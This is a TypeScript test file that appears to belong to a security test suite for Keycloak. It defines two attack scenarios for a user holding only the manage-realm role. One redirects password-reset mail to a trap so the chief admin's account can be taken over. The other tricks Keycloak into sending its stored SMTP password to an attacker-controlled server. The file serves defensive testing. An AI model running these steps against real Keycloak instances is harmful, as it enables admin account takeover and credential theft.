import type { Attempt } from "../attempt.ts";
import { newBrowser } from "../browser.ts";
import { choosePassword, forgetPassword } from "../forgot-password.ts";
import { startMailTrap } from "../mail-trap.ts";
import { proveRealmAdmin } from "../prove-realm-admin.ts";
import { Refusal } from "../refusal.ts";
import { signInWithPassword } from "../request-token.ts";

const roles = ["manage-realm"];
const mailPassword = crypto.randomUUID();
const realm = {
  smtpServer: {
    ...{ host: "mail.example.org", port: "25", from: "keycloak@example.org" },
    ...{ auth: "true", user: "keycloak", password: mailPassword },
  },
};

/** What changing where a realm sends its mails leads to. */
export const manageRealmMail: readonly Attempt[] = [
  {
    id: "redirect-password-mail",
    roles,
    harm: "realmAdmin",
    realm,
    attack: async (scene) => {
      const { attacker, chief } = scene;
      const trap = await startMailTrap();
      try {
        const smtpServer = { ...trap.settings, from: "keycloak@example.org" };
        await attacker.caller.send("PUT", "", { resetPasswordAllowed: true, smtpServer });
        const browser = newBrowser();
        await forgetPassword(scene, browser, chief.name);
        const chosen = "chosen-by-the-attacker";
        await choosePassword(browser, trap.link(), chosen);
        await proveRealmAdmin(scene, await signInWithPassword(scene, chief.name, chosen));
      } finally {
        await trap.stop();
      }
    },
  },
  {
    // The password stays when the masked one is sent back, and so goes where the address says.
    id: "redirect-mail-servers-password",
    roles,
    harm: "critical",
    realm,
    attack: async (scene) => {
      const { attacker, chief } = scene;
      const trap = await startMailTrap();
      try {
        const masked = await attacker.caller.read<typeof realm>("");
        // Keycloak 26.2 keeps the stored password only where the type of authentication is said.
        const smtpServer = { ...masked.smtpServer, ...trap.settings, authType: "basic" };
        await attacker.caller.send("PUT", "", { resetPasswordAllowed: true, smtpServer });
        await forgetPassword(scene, newBrowser(), chief.name);
        if (trap.password() === undefined) throw new Error("No mail came with a password.");
        if (trap.password() !== mailPassword) throw new Refusal("It came with another password.");
      } finally {
        await trap.stop();
      }
    },
  },
];
